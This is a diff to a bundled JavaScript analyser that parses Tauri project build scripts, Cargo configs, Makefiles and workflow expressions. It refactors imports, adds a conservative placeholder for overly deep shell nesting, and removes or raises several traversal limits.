@@ -1,6 +1,18 @@
 import { createRequire as __createRequire } from "node:module";
 const require = __createRequire(import.meta.url);
 import {
+  Bn,
+  Se,
+  T,
+  b,
+  d,
+  on
+} from "./shared.engine.serve.js";
+import {
+  RemoteError,
+  githubTree
+} from "./shared.action.engine.serve.js";
+import {
   ALLOWLIST,
   ANY_APP_COMMAND,
   ANY_SITE,
@@ -31,19 +43,7 @@ import {
   sourceInWords,
   sourceText,
   sourceWithoutCommit
-} from "./shared.engine.toril.js";
-import {
-  Bn,
-  Se,
-  T,
-  b,
-  d,
-  on
-} from "./shared.engine.serve.js";
-import {
-  RemoteError,
-  githubTree
-} from "./shared.action.engine.serve.js";
+} from "./shared.commands.engine.js";
 import {
   DEFAULT_POLICY,
   EVERY_PLATFORM,
@@ -52,8 +52,6 @@ import {
   PLATFORMS,
   POLICY_PATH,
   PURPOSES,
-  SEVERITIES,
-  atLeast,
   code,
   hasPlatform,
   isPlatform,
@@ -66,14 +64,13 @@ import {
   someOf,
   tightenedTo,
   visible
-} from "./shared.action.engine.serve.toril.js";
+} from "./shared.action.commands.engine.serve.js";
+import {
+  SEVERITIES,
+  atLeast
+} from "./shared.action.commands.engine.serve.toril.js";
 import {
   TREE_LIMITS,
-  __commonJS,
-  __esm,
-  __export,
-  __toCommonJS,
-  __toESM,
   comparePlaces,
   compareText,
   concurrently,
@@ -85,7 +82,14 @@ import {
   sinceWhen,
   topOf,
   wordsOf
-} from "./shared.action.engine.git-sides.serve.toril.js";
+} from "./shared.action.commands.engine.git-sides.serve.js";
+import {
+  __commonJS,
+  __esm,
+  __export,
+  __toCommonJS,
+  __toESM
+} from "./shared.action.commands.engine.git-sides.serve.toril.js";
 
 // node_modules/semver/internal/constants.js
 var require_constants = __commonJS({
@@ -10136,8 +10140,8 @@ function assign(table2, { key, value }, depth, place) {
   holder.entries.set(nameOf(last), { key: place(last.range), value: convert(value, below6, place) });
 }
 function enter(table2, key, place) {
-  const known5 = table2.entries.get(nameOf(key))?.value;
-  if (known5 !== void 0) return latest(known5, key);
+  const known6 = table2.entries.get(nameOf(key))?.value;
+  if (known6 !== void 0) return latest(known6, key);
   const made2 = tableAt(place(key.range));
   table2.entries.set(nameOf(key), { key: place(key.range), value: made2 });
   return made2;
@@ -10153,9 +10157,9 @@ function latest(value, key) {
 }
 function append(holder, key, header, place) {
   const made2 = tableAt(header);
-  const known5 = holder.entries.get(nameOf(key))?.value;
-  if (known5?.kind === "array") {
-    known5.items.push(made2);
+  const known6 = holder.entries.get(nameOf(key))?.value;
+  if (known6?.kind === "array") {
+    known6.items.push(made2);
     return made2;
   }
   const list = { kind: "array", items: [made2], at: header };
@@ -10318,12 +10322,12 @@ var LineReader = class {
   /** `[[name]]`, or `[[holder.name]]`. */
   #append(holder, name, made2) {
     const parent = holder === void 0 ? this.#root : this.#holder(holder);
-    const known5 = parent?.entries.get(name)?.value;
-    if (known5?.kind === "array" && known5.items[0]?.kind === "object") {
-      known5.items.push(made2);
+    const known6 = parent?.entries.get(name)?.value;
+    if (known6?.kind === "array" && known6.items[0]?.kind === "object") {
+      known6.items.push(made2);
       return true;
     }
-    if (parent === void 0 || known5 !== void 0) return false;
+    if (parent === void 0 || known6 !== void 0) return false;
     const column = holder === void 0 ? 3 : holder.length + 4;
     const list = { kind: "array", items: [made2], at: made2.at };
     parent.entries.set(name, { key: this.#place(column), value: list });
@@ -10332,8 +10336,8 @@ var LineReader = class {
   /** Tables that exist only because a header `[[holder.name]]` names them. Any other table may not be added to. */
   #holders = /* @__PURE__ */ new Map();
   #holder(name) {
-    const known5 = this.#holders.get(name);
-    if (known5 !== void 0 || this.#root.entries.has(name)) return known5;
+    const known6 = this.#holders.get(name);
+    if (known6 !== void 0 || this.#root.entries.has(name)) return known6;
     const at2 = this.#place(3);
     const made2 = { kind: "object", entries: /* @__PURE__ */ new Map(), at: at2 };
     this.#root.entries.set(name, { key: at2, value: made2 });
@@ -10351,8 +10355,8 @@ function isComment(line) {
 // src/formats/parse.ts
 function parseFile(file2, options = {}) {
   const format = formatOf(file2.path, options.json5 ?? false);
-  const known5 = parsed.get(file2)?.get(format);
-  if (known5 !== void 0) return known5;
+  const known6 = parsed.get(file2)?.get(format);
+  if (known6 !== void 0) return known6;
   const result2 = parseAs(file2, format);
   const results = parsed.get(file2) ?? /* @__PURE__ */ new Map();
   parsed.set(file2, results.set(format, result2));
@@ -10391,7 +10395,6 @@ function parseAs(file2, format) {
 
 // src/tauri/cargo/config.ts
 var CONFIG_FILES = [".cargo/config", ".cargo/config.toml"];
-var MOST_INCLUDED = 32;
 function cargoConfigs(folder, files) {
   return withAncestors(folder).flatMap((each) => {
     const path = CONFIG_FILES.map((name) => inFolder(each, name)).find((name) => files.has(name));
@@ -10407,7 +10410,7 @@ function settingIn(configs, ...names2) {
 function configWithIncluded(start, files) {
   const found8 = /* @__PURE__ */ new Map();
   const todo = [start];
-  for (let path = todo.pop(); path !== void 0 && found8.size < MOST_INCLUDED; path = todo.pop()) {
+  for (let path = todo.pop(); path !== void 0; path = todo.pop()) {
     const config = found8.has(path) ? void 0 : parsedConfig(files.get(path));
     if (config === void 0) continue;
     found8.set(path, config);
@@ -10430,8 +10433,8 @@ function includesIn(config) {
 // src/tauri/cargo/manifest.ts
 function readManifest(file2) {
   if (file2 === void 0) return void 0;
-  const known5 = read.get(file2);
-  if (known5 !== void 0) return known5;
+  const known6 = read.get(file2);
+  if (known6 !== void 0) return known6;
   const parsed7 = parseFile(file2);
   if (!parsed7.ok) return void 0;
   const manifest2 = manifestOf(file2.path, parsed7.value);
@@ -10635,7 +10638,6 @@ var UNKNOWN = "￿";
 var UNKNOWN_WORDS = "￾";
 var LONGEST_SCRIPT = 2e5;
 var DEEPEST_COMMAND = 12;
-var NO_COMMANDS = { commands: [], functions: /* @__PURE__ */ new Map() };
 function isKnown(text2) {
   return !text2.includes(UNKNOWN) && !text2.includes(UNKNOWN_WORDS);
 }
@@ -10645,6 +10647,24 @@ function textPiece(text2) {
 function plainText({ pieces }) {
   return pieces.every((piece) => piece.kind === "text") ? pieces.map((piece) => piece.text).join("") : void 0;
 }
+var TOO_DEEP = {
+  commands: [
+    {
+      words: [
+        { pieces: [textPiece("eval")], quoted: false },
+        { pieces: [textPiece(UNKNOWN_WORDS)], quoted: false }
+      ],
+      assignments: [],
+      targets: [],
+      inputs: [],
+      groups: [],
+      source: "eval",
+      fedBy: null,
+      offset: 0
+    }
+  ],
+  functions: /* @__PURE__ */ new Map()
+};
 function onOneLine(text2) {
   return text2.replace(/\\\r?\n/g, " ").replace(/\s+/g, " ").trim();
 }
@@ -10828,6 +10848,7 @@ var PosixWord = class _PosixWord {
     if (character2 !== "[" && character2 !== "{") return false;
     const { text: text2, at: at2 } = this.#cursor;
     const [after2 = ""] = text2.slice(at2, at2 + LONGEST_PATTERN).split(/\s/, 1);
+    if (after2.length === LONGEST_PATTERN) return true;
     return character2 === "[" ? after2.includes("]") : /^[^}]*(?:,|\.\.)[^}]*\}/.test(after2);
   }
   #escaped() {
@@ -10877,8 +10898,7 @@ var PosixWord = class _PosixWord {
     return isArithmetic ? COMPUTED : this.#computed(inner, splits);
   }
   #computed(script, splits) {
-    const commands2 = this.#depth >= DEEPEST_COMMAND ? [] : this.#split(script, this.#depth + 1).commands;
-    return { kind: "computed", splits, commands: commands2 };
+    return { kind: "computed", splits, commands: this.#split(script, this.#depth + 1).commands };
   }
   #braced(splits) {
     this.#cursor.at += 1;
@@ -10886,7 +10906,8 @@ var PosixWord = class _PosixWord {
     const [, name, index = ""] = inner.match(BRACED_NAME) ?? [];
     const [operator] = inner.match(/:?[-=+?]|$/y) ?? [];
     if (name === void 0 || operator === void 0) return { kind: "computed", splits, commands: [] };
-    const pieces = new _PosixWord(inner, this.#split, this.#depth).whole();
+    if (this.#depth >= DEEPEST_COMMAND) return { kind: "computed", splits, commands: TOO_DEEP.commands };
+    const pieces = new _PosixWord(inner, this.#split, this.#depth + 1).whole();
     if (operator.endsWith("+")) return { kind: "optional", pieces, splits };
     return variable2(name, splits, /[@*]/.test(index), /[-=]$/.test(operator) ? pieces : null);
   }
@@ -10944,7 +10965,7 @@ function joined2(pieces) {
 
 // src/tauri/builds/shell/posix.ts
 function splitPosix(text2, depth = 0) {
-  return depth > DEEPEST_COMMAND ? NO_COMMANDS : new PosixScript(text2.slice(0, LONGEST_SCRIPT), depth).split();
+  return depth > DEEPEST_COMMAND ? TOO_DEEP : new PosixScript(text2.slice(0, LONGEST_SCRIPT), depth).split();
 }
 var RESERVED = /* @__PURE__ */ new Set([
   "if",
@@ -10962,13 +10983,17 @@ var RESERVED = /* @__PURE__ */ new Set([
 ]);
 var DECLARING = new Set("export local declare readonly typeset".split(" "));
 var ASSIGNMENT = /([A-Za-z_]\w*)(?:\[[^\]\s]*\])?(\+?)=/y;
+var DEEPEST_GROUP = 200;
 var PosixScript = class {
   #cursor;
   #depth;
   #commands = [];
   #functions = /* @__PURE__ */ new Map();
   #groups = [];
+  /** The ids of the groups that have one, outermost first. */
+  #ids = [];
   #lastGroup = 0;
+  #isLeftOut = false;
   #function = null;
   #heredocs = [];
   #assignments = [];
@@ -11042,16 +11067,30 @@ var PosixScript = class {
     this.#clear();
   }
   #open(closes, isOwn3) {
-    const id = isOwn3 || this.#function !== null ? ++this.#lastGroup : null;
+    const isGroup = isOwn3 || this.#function !== null;
+    const isDeep = isGroup && this.#ids.length >= DEEPEST_GROUP;
+    if (isDeep && !this.#isLeftOut) this.#leaveOut();
+    const id = isGroup && !isDeep ? ++this.#lastGroup : null;
     this.#groups.push({ closes, id });
+    if (id !== null) this.#ids.push(id);
     if (id !== null && this.#function !== null) this.#functions.set(id, this.#function);
     this.#function = null;
+  }
+  #close() {
+    if (this.#groups.pop()?.id !== null) this.#ids.pop();
+  }
+  /** Where groups lie too deep, it isn't known where and with what commands run: the rest may be any. */
+  #leaveOut() {
+    const offset = this.#cursor.at;
+    const source = onOneLine(this.#cursor.text.slice(offset));
+    this.#isLeftOut = true;
+    for (const command of TOO_DEEP.commands) this.#commands.push({ ...command, offset, source });
   }
   /** A closing bracket without an opening one ends a pattern of `case`. */
   #closing() {
     this.#endCommand();
     this.#cursor.at += 1;
-    if (this.#groups.at(-1)?.closes === ")") this.#groups.pop();
+    if (this.#groups.at(-1)?.closes === ")") this.#close();
   }
   #redirection() {
     const cursor = this.#cursor;
@@ -11093,7 +11132,7 @@ var PosixScript = class {
     if (found8 === void 0) return false;
     this.#endCommand(this.#cursor.at - 1);
     if (found8 === "{") this.#open("}", false);
-    else if (this.#groups.at(-1)?.closes === "}") this.#groups.pop();
+    else if (this.#groups.at(-1)?.closes === "}") this.#close();
     return true;
   }
   #isReserved(text2) {
@@ -11146,7 +11185,7 @@ var PosixScript = class {
         offset,
         source,
         fedBy: this.#fedBy,
-        groups: this.#groups.flatMap(({ id }) => id ?? [])
+        groups: [...this.#ids]
       });
       this.#pipeline = this.#fedBy === null ? source : `${this.#fedBy} | ${source}`;
       this.#fedBy = null;
@@ -11233,11 +11272,17 @@ function doubleQuoted(cursor, split3, depth) {
 }
 function dollar(cursor, split3, depth, inQuotes) {
   if (cursor.match(/\(/y) !== void 0) return output(takeBalanced(cursor, "(", ")"), split3, depth);
-  const [, braced, plain5] = cursor.match(/\{([^}]*)\}|((?:env:|script:|global:|local:)?\w+)/iy) ?? [];
-  const name = braced ?? plain5;
+  const name = braced(cursor) ?? cursor.match(/(?:env:|script:|global:|local:)?\w+/iy)?.[0];
   if (name === void 0) return textPiece("$");
   const hasMember = !inQuotes && cursor.match(/(?:\.\w+|\[[^\]]*\])+/y) !== void 0;
   return hasMember ? output("", split3, depth) : variable3(name);
+}
+function braced(cursor) {
+  const end = cursor.peek() === "{" ? cursor.text.indexOf("}", cursor.at) : -1;
+  if (end < 0) return void 0;
+  const name = cursor.text.slice(cursor.at + 1, end);
+  cursor.at = end + 1;
+  return name;
 }
 function withoutScope(name) {
   return name.replace(/^(?:env|script|global|local):/i, "");
@@ -11267,7 +11312,7 @@ var ESCAPES2 = {
 
 // src/tauri/builds/shell/powershell.ts
 function splitPowershell(text2, depth = 0) {
-  if (depth > DEEPEST_COMMAND) return NO_COMMANDS;
+  if (depth > DEEPEST_COMMAND) return TOO_DEEP;
   return new PowershellScript(text2.slice(0, LONGEST_SCRIPT), depth).split();
 }
 var PowershellScript = class {
@@ -11507,7 +11552,7 @@ function parentOf(path) {
   const slash = path.lastIndexOf("/");
   return slash < 0 ? "." : path.slice(0, Math.max(slash, 1));
 }
-var LONGEST_PATH = 300;
+var LONGEST_PATH = 4096;
 function pathsIn(word2, folders) {
   if (word2 === "" || word2.length > LONGEST_PATH || /\s/.test(word2) || !isKnown(word2)) return [];
   if (folders === null && resolved("", word2) !== resolved("a", word2)) return [];
@@ -11793,10 +11838,10 @@ function settingsOf2(commands2) {
     const words3 = ran.words.flatMap((word2) => /^(?:-[eD]|--env=)?TAURI_CONFIG=(.*)$/is.exec(word2)?.[1] ?? []);
     const says = SAYS.test(ran.source);
     for (const json of [...words3, ...valuesIn(ran)].filter((value) => value !== "")) {
-      const known5 = found8.get(json);
-      const everywhere = words3.includes(json) || known5?.everywhere === true;
-      const isBetter = known5 === void 0 || says && !SAYS.test(known5.ran.source);
-      found8.set(json, { json, ran: isBetter ? ran : known5.ran, everywhere });
+      const known6 = found8.get(json);
+      const everywhere = words3.includes(json) || known6?.everywhere === true;
+      const isBetter = known6 === void 0 || says && !SAYS.test(known6.ran.source);
+      found8.set(json, { json, ran: isBetter ? ran : known6.ran, everywhere });
     }
   }
   return [...found8.values()];
@@ -11919,7 +11964,8 @@ function setsPlace(text2) {
 var HANDS_OVER = /--config\b|["'`\s]-c["'`\s]|--features\b|--all-features\b|--debug\b|--profile\b/;
 var EXPORTS = /\bexportVariable\s*\(\s*(?!["'`](?!TAURI_|CARGO_|RUST)\w+["'`]\s*,)/i;
 function mayStartTauri(code2) {
-  if (code2.length > LONGEST_CODE) return /tauri/i.test(code2);
+  if (code2.length > LONGEST_CODE)
+    return /tauri/i.test(code2) || VARIABLE2.test(code2) || EXPORTS.test(code2) || setsPlace(code2);
   const lines2 = code2.split("\n");
   const text2 = lines2.filter((line) => !/^\s*(?:\/\/|#(?!!)|\*|\/\*|--)/.test(line)).join("\n");
   if (/@tauri-apps\/cli/.test(text2) || VARIABLE2.test(text2) || EXPORTS.test(text2) || setsPlace(text2))
@@ -11940,7 +11986,7 @@ function unseenProgram(ran, files) {
   if (crate2 !== void 0) return [{ ran, why: "program", what: crate2, on: [inFolder(crate2, "src")] }];
   const found8 = startedWords(ran.words).flatMap((word2) => pathsIn(word2, ran.folders)).flatMap((path) => files.get(path) ?? []);
   const program = found8.find((file2) => isCode(file2) && (mayStartTauri(file2.text) || isCli(ran)));
-  return program === void 0 ? [] : [{ ran, why: "program", what: program.path, on: imported(program) }];
+  return program === void 0 ? [] : [{ ran, why: "program", what: program.path, on: imported(program, files) }];
 }
 function isCode(file2) {
   if (/\.(?:[cm]?[jt]sx?|py|rb|pl|php|lua|nu|fish)$/.test(file2.path)) return true;
@@ -11950,12 +11996,19 @@ function isCli({ words: words3, variables }) {
   const scripts = variables.get("INPUT_TAURISCRIPT")?.flat() ?? [];
   return scripts.some((script) => script !== "" && words3.join(" ").startsWith(script));
 }
-var MOST_MODULES = 50;
-function imported({ path, text: text2 }) {
-  const names2 = [
-    ...text2.matchAll(/(?:\bfrom|\bimport|\brequire)\s*\(?\s*["'`](\.{1,2}\/[^"'`\n]{1,200})["'`]/g)
-  ];
-  return names2.slice(0, MOST_MODULES).flatMap(([, name = ""]) => {
+function imported(program, files) {
+  const found8 = /* @__PURE__ */ new Set();
+  let next2 = [program];
+  while (next2.length > 0) {
+    const paths3 = new Set(next2.flatMap(importedBy)).difference(found8);
+    for (const path of paths3) found8.add(path);
+    next2 = [...paths3].flatMap((path) => files.get(path) ?? []);
+  }
+  return [...found8];
+}
+function importedBy({ path, text: text2 }) {
+  const names2 = text2.matchAll(/(?:\bfrom|\bimport|\brequire)\s*\(?\s*["'`](\.{1,2}\/[^"'`\n]{1,4096})["'`]/g);
+  return [...names2].flatMap(([, name = ""]) => {
     const module = joined(folderOf(path), name);
     if (module === null) return [];
     const bare = module.replace(/\.[cm]?js$/, "");
@@ -12018,17 +12071,15 @@ function otherCommands(file2) {
     ([name]) => !/^(?:scripts|.*[dD]ependencies)$/.test(name)
   );
   return sections.flatMap(
-    ([name, { value }]) => stringsIn(value, 0).flatMap(
+    ([name, { value }]) => stringsIn(value).flatMap(
       (text2) => /\S\s+\S/.test(text2.value) && /tauri/i.test(text2.value) ? [{ name, text: text2, path: file2.path }] : []
     )
   );
 }
-var DEEPEST_SETTING = 8;
-function stringsIn(value, depth) {
+function stringsIn(value) {
   if (value.kind === "string") return [value];
-  if (depth > DEEPEST_SETTING) return [];
-  if (value.kind === "array") return value.items.flatMap((item) => stringsIn(item, depth + 1));
-  return value.kind === "object" ? [...value.entries.values()].flatMap((entry) => stringsIn(entry.value, depth + 1)) : [];
+  if (value.kind === "array") return value.items.flatMap((item) => stringsIn(item));
+  return value.kind === "object" ? [...value.entries.values()].flatMap((entry) => stringsIn(entry.value)) : [];
 }
 function isPackageManifest(path) {
   return /^(?:package\.json|deno\.jsonc?)$/.test(baseName(path));
@@ -12357,7 +12408,6 @@ function withoutRepetition(builds2) {
 }
 
 // src/tauri/builds/called-packages.ts
-var MOST_PACKAGES2 = 4;
 function scriptsCalled({ name, folder, packageName }, folders, runnable) {
   const named8 = runnable.scripts.get(name) ?? [];
   const manifests = packageName === null ? [] : manifestsOf(packageName, runnable);
@@ -12366,7 +12416,7 @@ function scriptsCalled({ name, folder, packageName }, folders, runnable) {
   const from = folder === null ? folders : (folders ?? [""]).flatMap((each) => resolved(each, folder) ?? []);
   const nearest3 = (from ?? []).flatMap((each) => nearestManifest(each, runnable) ?? []);
   const near = named8.filter(({ path }) => nearest3.includes(path));
-  return near.length > 0 || name === "tauri" ? near : named8.slice(0, MOST_PACKAGES2);
+  return near.length > 0 || name === "tauri" ? near : named8;
 }
 function foldersOfManager(words3, folders, runnable) {
   const at2 = words3.findIndex(isManager);
@@ -12384,7 +12434,7 @@ function foldersOfManager(words3, folders, runnable) {
 function manifestsOf(packageName, { packages, files }) {
   const name = packageName.replace(/^\.\.\.|\.\.\.$/g, "").replace(/\^$/, "");
   const inside = inFolder(name.replace(/^\.\//, ""), "package.json");
-  return [...packages.get(name) ?? [], ...files.has(inside) ? [inside] : []].slice(0, MOST_PACKAGES2);
+  return [...packages.get(name) ?? [], ...files.has(inside) ? [inside] : []];
 }
 function nearestManifest(folder, { files }) {
   return withAncestors(folder).map((each) => inFolder(each, "package.json")).find((path) => files.has(path));
@@ -12407,14 +12457,13 @@ ${line}`;
 }
 
 // src/tauri/builds/taken-in.ts
-var MOST_STEPS = 4;
-var MOST_FILES = 100;
+var MOST_TAKEN_IN = 50;
 function filesTakenIn(file2, files) {
   const found8 = /* @__PURE__ */ new Set();
   let next2 = [file2];
-  for (let step = 0; step < MOST_STEPS && found8.size < MOST_FILES; step += 1) {
-    const paths3 = next2.flatMap((each) => pathsTakenIn(each, file2));
-    next2 = paths3.flatMap((path) => files.get(path) ?? []).filter((each) => each !== file2 && !found8.has(each));
+  while (next2.length > 0 && found8.size < MOST_TAKEN_IN) {
+    const paths3 = new Set(next2.flatMap((each) => pathsTakenIn(each, file2)));
+    next2 = [...paths3].flatMap((path) => files.get(path) ?? []).filter((each) => each !== file2 && !found8.has(each));
     for (const each of next2) found8.add(each);
   }
   return [...found8];
@@ -12438,15 +12487,15 @@ function pathsTakenIn(file2, top2 = file2) {
 var MAKE = /^[ ]*(?:-|s)?include[ \t]+([^#\n]+)/;
 var JUST = /^(?:import|mod)\??[ \t]+(?:\w+[ \t]+)?['"]([^'"\n]+)['"]/;
 function namesInLines({ text: text2 }, line) {
-  return text2.split("\n").flatMap((each) => line.exec(each)?.[1]?.trim().split(/\s+/) ?? []).filter((name) => !/[$*]/.test(name)).slice(0, MOST_FILES);
+  return text2.split("\n").flatMap((each) => line.exec(each)?.[1]?.trim().split(/\s+/) ?? []).filter((name) => !/[$*]/.test(name));
 }
 function namesInYaml(file2, name, key) {
   const parsed7 = parseFile(file2);
   const value = parsed7.ok ? member(parsed7.value, name) : void 0;
   const pathOf6 = (each) => asString(each) ?? asString(member(each, key)) ?? [];
-  if (value?.kind === "array") return itemsOf(value).flatMap(pathOf6).slice(0, MOST_FILES);
+  if (value?.kind === "array") return itemsOf(value).flatMap(pathOf6);
   if (value?.kind !== "object" || asString(member(value, key)) !== void 0) return [pathOf6(value)].flat();
-  return [...value.entries.values()].flatMap((entry) => pathOf6(entry.value)).slice(0, MOST_FILES);
+  return [...value.entries.values()].flatMap((entry) => pathOf6(entry.value));
 }
 
 // src/tauri/builds/recipes.ts
@@ -12466,13 +12515,19 @@ var NOTHING = { variables: /* @__PURE__ */ new Map(), args: [] };
 function makersOfRecipes(file2, files, given2 = NOTHING) {
   const recipes = isJustfile(file2.path) ? JUST2 : MAKE2;
   const lines2 = logicalLines(file2);
-  const around2 = [...filesTakenIn(file2, files).flatMap(logicalLines), ...lines2];
+  const taken3 = filesTakenIn(file2, files);
+  const around2 = [...taken3.flatMap(logicalLines), ...lines2];
   const variables = new Map([...variablesOf(around2, recipes), ...given2.variables]);
   const computed3 = around2.filter((line) => isComputed(line, recipes));
-  return [...bodiesOf(lines2, recipes)].map(([target, { header, body }]) => {
-    const own = resolvedVariables(new Map([...variables, ...parametersOf(header, given2.args)]), recipes);
-    return maker(file2, target, [...computed3, ...body], own, recipes);
-  });
+  const resolved3 = resolvedVariables(variables, recipes);
+  const unnamed2 = taken3.filter(({ path }) => !isMakefile(path) && !isJustfile(path));
+  return [file2, ...unnamed2].flatMap(
+    (each) => [...bodiesOf(each === file2 ? lines2 : logicalLines(each), recipes)].map(([target, { header, body }]) => {
+      const parameters = parametersOf(header, given2.args);
+      const own = parameters.length === 0 ? resolved3 : resolvedVariables(new Map([...variables, ...parameters]), recipes);
+      return maker(each, file2, target, [...computed3, ...body], own, recipes);
+    })
+  );
 }
 function bodiesOf(lines2, { name }) {
   const found8 = /* @__PURE__ */ new Map();
@@ -12497,24 +12552,24 @@ function parametersOf(header, args) {
     return [name, own === void 0 || own === "" ? single2 ?? double ?? "" : own];
   });
 }
-function maker({ path }, target, body, variables, recipes) {
+function maker({ path }, top2, target, body, variables, recipes) {
   const written6 = [...variables].filter(([, text2]) => !/[$`]|\{\{/.test(text2));
   const computed3 = [...variables.keys()].filter((name) => name === "TAURI_CONFIG");
   const environment = new Map([
     ...computed3.map((name) => [name, [[UNKNOWN]]]),
     ...written6.map(([name, text2]) => [name, [[text2]]])
   ]);
-  const folders = /\.(?:mk|just)$/.test(path) ? withAncestors(folderOf(path)) : [folderOf(path)];
+  const folders = /\.(?:mk|just)$/.test(path) ? withAncestors(folderOf(path)) : [.../* @__PURE__ */ new Set([folderOf(top2.path), folderOf(path)])];
   const start = { folders, variables: environment, args: [[]] };
   const parts = body.map(({ text: text2, line: line2 }) => {
     const isVariable = !/^[ \t]/.test(text2);
     const recipe = text2.replace(/^[ \t]+[@+-]*/, "");
-    const command = isVariable ? asAssignment(text2, recipes) : filledIn(recipe, variables, recipes.reference);
+    const command = isVariable ? asAssignment(text2, variables, recipes) : filledIn(recipe, variables, recipes.reference);
     return { script: scriptAt(command, "posix", { path, line: line2, endLine: line2 }), start };
   });
   const line = body.at(-1)?.line ?? 1;
   return {
-    key: `${path}#${target}`,
+    key: `${top2.path}#${target}`,
     name: `${recipes.program} ${target}`.trim(),
     at: { path, line, column: 1, endLine: line },
     parts,
@@ -12522,9 +12577,12 @@ function maker({ path }, target, body, variables, recipes) {
     isForTests: isNamedForTests(target)
   };
 }
-function asAssignment(text2, { variable: variable5 }) {
+function asAssignment(text2, variables, { variable: variable5, reference }) {
   const [, name = "", value = ""] = variable5.exec(text2) ?? [];
-  const computed3 = value.trim().replace(/\$\(shell\s+/g, "$(").replace(/\$\(file\s*<\s*/g, "$(cat ");
+  const computed3 = value.trim().replace(
+    reference,
+    (whole2, given2) => variables.has(given2.trim()) ? filledIn(whole2, variables, reference) : whole2
+  ).replace(/\$\(shell\s+/g, "$(").replace(/\$\(file\s*<\s*/g, "$(cat ");
   return computed3.includes('"') ? `${name}=${computed3}` : `${name}="${computed3}"`;
 }
 function isComputed({ text: text2 }, { variable: variable5 }) {
@@ -12550,7 +12608,7 @@ function filledIn(text2, variables, reference) {
     return /^[\w-]+$/.test(name) ? "" : UNKNOWN_WORDS;
   });
 }
-var DEEPEST_REFERENCE = 4;
+var DEEPEST_REFERENCE = 20;
 var LONGEST_VARIABLE = 1e4;
 function resolvedVariables(variables, { reference }) {
   let found8 = variables;
@@ -12562,6 +12620,7 @@ function resolvedVariables(variables, { reference }) {
         return [name, filled2.length > LONGEST_VARIABLE ? text2 : filled2];
       })
     );
+    if (![...found8].some(([name, text2]) => text2 !== before2.get(name))) break;
   }
   return found8;
 }
@@ -12756,9 +12815,9 @@ function additionsOf(piece, scope) {
   }
 }
 function variableValues({ name, splits, otherwise }, scope) {
-  const known5 = scope.args.get(name) ?? lookedUp(name, scope.variables);
+  const known6 = scope.args.get(name) ?? lookedUp(name, scope.variables);
   const instead = otherwise === null ? [] : piecesValues(otherwise, scope);
-  if (known5 !== void 0 || otherwise !== null) return [...known5 ?? [], ...instead];
+  if (known6 !== void 0 || otherwise !== null) return [...known6 ?? [], ...instead];
   return [[splits ? UNKNOWN_WORDS : UNKNOWN]];
 }
 function lookedUp(name, variables) {
@@ -12788,6 +12847,7 @@ function whole(piece) {
 
 // src/tauri/builds/run.ts
 function commandsRun(script, start, budget, depth = 0) {
+  if (depth > DEEPEST_COMMAND || script.text.length > LONGEST_SCRIPT) budget.leaveOut();
   return depth > DEEPEST_COMMAND ? [] : new ScriptRun(script, start, budget, depth).all();
 }
 var NO_WORD = { pieces: [], quoted: false };
@@ -12871,9 +12931,9 @@ var ScriptRun = class {
     );
   }
   #add(name, values) {
-    const known5 = this.#variables.get(name) ?? [];
-    if (known5.length === 1 && known5[0]?.[0] === UNKNOWN) return;
-    const all = [...known5, ...values];
+    const known6 = this.#variables.get(name) ?? [];
+    if (known6.length === 1 && known6[0]?.[0] === UNKNOWN) return;
+    const all = [...known6, ...values];
     const distinct6 = [...new Map(all.map((value) => [JSON.stringify(value), value])).values()];
     this.#variables.set(name, distinct6.length > MOST_VALUES ? [[UNKNOWN]] : distinct6);
   }
@@ -12936,9 +12996,9 @@ var ScriptRun = class {
   #enter(groups3) {
     let folders = this.#folders;
     for (const group2 of groups3) {
-      const known5 = this.#groups.get(group2);
-      if (known5 === void 0) this.#groups.set(group2, folders);
-      else folders = known5;
+      const known6 = this.#groups.get(group2);
+      if (known6 === void 0) this.#groups.set(group2, folders);
+      else folders = known6;
     }
     return folders;
   }
@@ -12999,15 +13059,15 @@ function dialectIn(words3, own) {
 }
 
 // src/tauri/builds/follow.ts
-var MOST_STEPS2 = 6;
+var MOST_STEPS = 12;
 function allCommandsRun(script, start, runnable, budget, chain = []) {
   const own = commandsRun(script, start, budget).map((ran) => inFolderOfManager(ran, runnable));
   const led = [...chain, nameOf2({ script, start })];
   return own.flatMap((ran) => {
     const next2 = started(ran, runnable);
     const further = next2.filter((part) => !led.includes(nameOf2(part)));
-    if (further.length > 0 && chain.length >= MOST_STEPS2) budget.leaveOut();
-    const followed = chain.length >= MOST_STEPS2 ? [] : further;
+    if (further.length > 0 && chain.length >= MOST_STEPS) budget.leaveOut();
+    const followed = chain.length >= MOST_STEPS ? [] : further;
     return [
       { ...ran, isFollowed: ran.isFollowed || next2.length > 0 },
       ...followed.flatMap((part) => allCommandsRun(part.script, part.start, runnable, budget, led)).map((each) => ({
@@ -13112,22 +13172,21 @@ function unreadWorkflowGaps(app, files) {
 function handsSomethingOver(text2) {
   return /TAURI_CONFIG/.test(text2) || /tauri/i.test(text2) && /--config|\s-[a-z]*c[\s=]|--features|\s-f\b|\bargs\s*:/.test(text2);
 }
-function tooManyCommands(app, files) {
-  const starting = [...files.values()].filter(({ path }) => mayStartBuilds(path, app));
+function tooManyCommands(app, on3) {
   const message = "The scripts that may build the app run more commands than are looked at: what they hand to Tauri isn't known.";
   return gapIn(app.config, {
     kind: "truncated",
-    rests: wordsOf(starting.map(({ id }) => id).sort()),
+    rests: wordsOf(on3),
     message
   });
 }
 
 // src/tauri/builds/identity.ts
 function dependenciesAmong(commands2) {
-  let known5;
+  let known6;
   return (command, isBuilt2 = false) => {
-    known5 ??= partsOf3(commands2);
-    const parts = known5;
+    known6 ??= partsOf3(commands2);
+    const parts = known6;
     const taken3 = /* @__PURE__ */ new Set();
     const own = [command.source, ...command.from];
     const needed = new Set(own.every(isKnown) ? [] : GIVES_TO_STEPS);
@@ -13224,7 +13283,7 @@ function onlyWholeQuotes(text2) {
 // src/tauri/builds/workflows/expression-tokens.ts
 var TOKEN = /\s+|'(?:[^']|'')*'|\|\||&&|[=!]=|[<>]=?|-?\d[\w.]*|[A-Za-z_][\w-]*(?:\.[\w*-]+|\['[^']*'\])*|./gs;
 function tokensOf(expression) {
-  const tokens = expression.slice(0, LONGEST_EXPRESSION).match(TOKEN) ?? [];
+  const tokens = expression.match(TOKEN) ?? [];
   return tokens.filter((token2) => token2.trim() !== "").map((token2) => token2.replace(/\['([^']*)'\]/g, ".$1"));
 }
 var LONGEST_EXPRESSION = 2e3;
@@ -13246,17 +13305,20 @@ function piecesOf2(text2) {
   for (let at2 = text2.indexOf("${{"); at2 >= 0; at2 = text2.indexOf("${{", from)) {
     const end = endOfExpression(text2, at2 + 3);
